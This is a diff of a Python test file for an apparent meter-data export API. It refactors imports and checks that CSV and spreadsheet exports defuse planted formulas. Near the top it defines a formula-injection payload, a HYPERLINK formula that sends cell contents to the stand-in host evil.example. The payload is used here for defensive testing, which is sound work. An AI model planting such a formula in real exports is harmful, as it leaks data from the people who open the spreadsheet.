@@ -18,21 +18,22 @@ from datahub_api.access_points.service import get_access_point
 from datahub_api.brussels_days import day_start
 from datahub_api.history_exports import writer
 from datahub_api.history_exports.models import ExportFormat
-from datahub_api.meter_data.models import Direction, Granularity, Register, StoredUnit
-from datahub_api.meter_data.portal_export import (
+from datahub_api.meter_data.blocks import BlockKey, DayBlock
+from datahub_api.meter_data.fluvius_csv import (
     TariffCalendar,
     csv_cell,
     exported_access_point,
 )
-from datahub_api.meter_data.repository import BlockKey, DayBlock
-from datahub_api.meter_data.series import ReadGranularity, ReadWindow
-from datahub_api.nps import service as nps_service
+from datahub_api.meter_data.granularity import Granularity
+from datahub_api.meter_data.models import Direction, Register, StoredUnit
+from datahub_api.meter_data.series import ReadWindow
+from datahub_api.nps.service import daily_files as nps_daily_files
 from datahub_api.spreadsheet_cells import FORMULA_STARTS, formula_safe
 
-from .consent_world import browser_login
-from .esp_portal_world import PLAIN, EspWorld, make_esp_world
-from .meter_data_helpers import METER
-from .parties import auth_headers
+from .support.consent_world import browser_login
+from .support.esp_portal_world import PLAIN, EspWorld, make_esp_world
+from .support.meter_data import METER
+from .support.parties import auth_headers
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1;"x")'
 
@@ -139,9 +140,7 @@ async def test_every_export_face_neutralises_a_planted_formula(
     finally:
         await staff.aclose()
 
-    read_window = ReadWindow(
-        day_start(day), day_start(day + timedelta(days=1)), ReadGranularity.day
-    )
+    read_window = ReadWindow(day_start(day), day_start(day + timedelta(days=1)), Granularity.P1D)
     history: dict[ExportFormat, bytes] = {}
     async with app.state.database.read_sessions() as session:
         point = exported_access_point(await get_access_point(session, ean))
@@ -182,8 +181,8 @@ def test_nps_daily_file_rows_neutralise_a_formula_meter_id() -> None:
         values=[250] + [None] * 95,
         states=[1] + [None] * 95,
     )  # fmt: skip
-    allowed = nps_service._EanWindows(7, [(day_start(day), day_start(day + timedelta(days=1)))])
-    rows = nps_service._rows(block, allowed, day, None)
+    allowed = nps_daily_files._EanWindows(7, [(day_start(day), day_start(day + timedelta(days=1)))])
+    rows = nps_daily_files._rows(block, allowed, day, None)
     assert len(rows) == 1
     assert rows[0][1] == "'" + EVIL
     assert formula_cells(rows[0]) == []
